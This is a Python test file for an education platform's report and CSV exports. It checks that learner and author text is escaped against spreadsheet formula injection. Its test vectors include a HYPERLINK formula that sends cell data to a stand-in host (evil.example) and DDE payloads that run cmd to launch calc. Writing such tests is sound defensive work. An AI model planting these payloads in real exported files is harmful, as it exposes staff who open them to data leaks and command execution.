"""Spreadsheet formula injection: every cell staff may open in a spreadsheet is formula-safe.

Vectors from the OWASP CSV-injection list go into every authored label a report shows and
every learner text it carries; then the Problem Responses report (through an emulation of
the platform's consumer, `tests/support/problem_responses.py`), the staff CSV and the
research CSV are read back cell by cell.
"""

import csv
import io
from xml.sax.saxutils import escape, quoteattr

import pytest

from leadership_xblocks import cells, exports
from leadership_xblocks.cohort.models import LearnerRecord
from tests.support.blocks import Learner, load
from tests.support.downloads import VIAS, download
from tests.support.problem_responses import PLATFORM_FIRST, PLATFORM_LAST, report_csv
from tests.test_reports import user_states

VECTORS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+SUM(1,1)*cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1,1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
]
STAFF = 'staff'


def v(index):
    return VECTORS[index % len(VECTORS)]


def formula_cells(cells_):
    """The cells a spreadsheet would run as a formula."""
    return [cell for cell in cells_ if cell.startswith(cells.FORMULA_START) and not cells.NUMBER.match(cell)]


def scenario_xml():
    return f"""<leadership_scenario display_name="Injected" scoring="ending">
  <step id="s1" title={quoteattr(v(0))}><p>Go</p>
    <choice id="c1" mode="urgent" target="e1"><label>{escape(v(1))}</label><feedback><p>ok</p></feedback></choice>
  </step>
  <ending id="e1" title={quoteattr(v(2))} score="1"><p>done</p></ending>
</leadership_scenario>"""


def self_assessment_xml():
    return f"""<leadership_self_assessment display_name="Injected">
  <scale min="-2" max="2"><label value="-2">{escape(v(3))}</label><label value="2">Often</label></scale>
  <dimension id="d1" label={quoteattr(v(4))}>
    <item id="i1">{escape(v(5))}</item><item id="i2">{escape(v(6))}</item>
  </dimension>
</leadership_self_assessment>"""


def time_allocation_xml():
    return f"""<leadership_time_allocation display_name="Injected">
  <function id="f1">{escape(v(0))}</function><function id="f2">{escape(v(3))}</function>
</leadership_time_allocation>"""


def played_blocks():
    """Each block type with authored vectors, and learners whose own words are vectors too."""
    scenario = load(scenario_xml())
    Learner(scenario, 'alice').ok('choose', {'step': 's1', 'choice': 'c1'})
    reflection = load('<leadership_reflection display_name="Injected" min_words="1"/>')
    for index, user in enumerate(('alice', 'bob', 'carol')):
        Learner(reflection, user).ok('submit', {'text': v(index) + ' and more words'})
    Learner(reflection, 'dave').ok('save_draft', {'text': '<p>' + v(5) + '</p><p>' + v(6) + '</p>'})
    self_assessment = load(self_assessment_xml())
    Learner(self_assessment, 'alice').ok('submit', {'ratings': {'i1': -2, 'i2': -1}})
    time_allocation = load(time_allocation_xml())
    for index, user in enumerate(('alice', 'bob')):
        Learner(time_allocation, user).ok(
            'submit', {'allocations': {'f1': 50, 'f2': 50}, 'model': v(index), 'consent': True}
        )
    return {
        'scenario': (scenario, ['alice', 'bob']),
        'reflection': (reflection, ['alice', 'bob', 'carol', 'dave']),
        'self_assessment': (self_assessment, ['alice', 'bob']),
        'time_allocation': (time_allocation, ['alice', 'bob', 'carol']),
    }


@pytest.fixture(scope='module')
def blocks():
    return played_blocks()


@pytest.mark.parametrize('name', ['scenario', 'reflection', 'self_assessment', 'time_allocation'])
def test_problem_responses_report_cells_are_formula_safe_and_keep_their_words(blocks, name):
    usage_id, users = blocks[name]
    block = Learner(usage_id, STAFF).block()
    header, rows, text = report_csv(block, user_states(usage_id, users))
    ours = header[len(PLATFORM_FIRST) : -len(PLATFORM_LAST)]
    read_back = list(csv.reader(io.StringIO(text)))
    assert read_back[0] == header
    for row in read_back[1:]:
        block_cells = row[len(PLATFORM_FIRST) : -len(PLATFORM_LAST)]
        assert not formula_cells(block_cells), (name, block_cells)
    assert not formula_cells(ours), ours
    # the words are all there, each behind the one quote a spreadsheet hides
    joined = '\n'.join(text.splitlines())
    assert any("'" + vector.strip('\r').split('(')[0] in joined for vector in VECTORS)
    assert rows


def test_report_columns_keep_the_blocks_order_in_the_platform_report(blocks):
    usage_id, users = blocks['scenario']
    header, _rows, _text = report_csv(Learner(usage_id, STAFF).block(), user_states(usage_id, users))
    assert header == PLATFORM_FIRST + ['Path', 'Ending', 'Score', 'Best score', 'Attempts', 'Completed'] + PLATFORM_LAST
    usage_id, users = blocks['time_allocation']
    header, _rows, _text = report_csv(Learner(usage_id, STAFF).block(), user_states(usage_id, users))
    ours = header[len(PLATFORM_FIRST) : -len(PLATFORM_LAST)]
    assert ours == [
        'Submitted',
        "'" + v(0) + ' (%)',
        "'" + v(3) + ' (%)',
        'Leadership model',
        'Research consent',
        'Submitted at',
    ]


def test_real_negative_numbers_stay_numbers(blocks):
    usage_id, users = blocks['self_assessment']
    header, rows, _text = report_csv(Learner(usage_id, STAFF).block(), user_states(usage_id, users))
    mean_column = next(i for i, name in enumerate(header) if name.endswith('(mean)'))
    assert rows[0][mean_column] == -1.5  # a number, not text
    assert cells.formula_safe('-12.5') == '-12.5' and cells.formula_safe('-1e3') == '-1e3'
    assert cells.formula_safe(-3) == -3
    assert cells.formula_safe('-2+3') == "'-2+3" and cells.formula_safe('-') == "'-"


def csv_cells(usage_id, handler, via):
    response = download(usage_id, STAFF, handler.removeprefix('download_'), via)
    assert response.status_code == 200
    text = response.body.decode('utf-8')
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize('via', VIAS)
@pytest.mark.parametrize('handler', ['download_records', 'download_research'])
def test_staff_and_research_csv_cells_are_formula_safe(handler, via):
    LearnerRecord.objects.all().delete()
    block_key = str(load('<leadership_time_allocation display_name="Injected"/>'))
    for index, vector in enumerate(VECTORS):
        # every column a row can set: free text in data, and values a database may hold
        LearnerRecord.objects.create(
            block_key=block_key,
            block_type=vector,
            learner=vector,
            course_key='',
            data={'v': 1, 'text': vector},
            consent=True,
            consent_at='2026-01-05T09:00:00+00:00',
            score=-0.5 if index == 0 else None,
        )
    found = csv_cells(block_key, handler, via)
    assert not formula_cells(found), formula_cells(found)
    assert '-0.5' in found  # a real negative number is written as a number
    if handler == 'download_records':
        assert "'" + VECTORS[0] in found
    LearnerRecord.objects.all().delete()


def test_one_rule_serves_every_export():
    row = next(exports.csv_stream(['a', 'b'], [[VECTORS[0], -4.25]])).decode('utf-8')
    assert list(csv.reader(io.StringIO(row)))[1] == ["'" + VECTORS[0], '-4.25']
